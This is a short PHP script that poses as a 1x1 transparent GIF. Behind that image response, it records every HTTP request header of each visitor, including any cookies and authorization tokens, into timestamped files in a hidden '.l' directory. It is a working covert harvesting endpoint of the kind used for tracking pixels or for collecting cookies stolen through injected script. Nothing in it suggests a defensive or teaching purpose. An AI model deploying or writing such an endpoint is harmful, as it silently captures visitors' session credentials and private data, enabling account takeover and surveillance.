<?php
$log = '';
foreach ($_SERVER as $k => $v) {
    if (strpos($k, 'HTTP_') === 0) { $log .= $k . '=' . $v . "\n"; }
}
file_put_contents(__DIR__ . '/.l/' . time() . '.txt', $log . "\n", FILE_APPEND);
header('Content-Type: image/gif');
echo base64_decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');
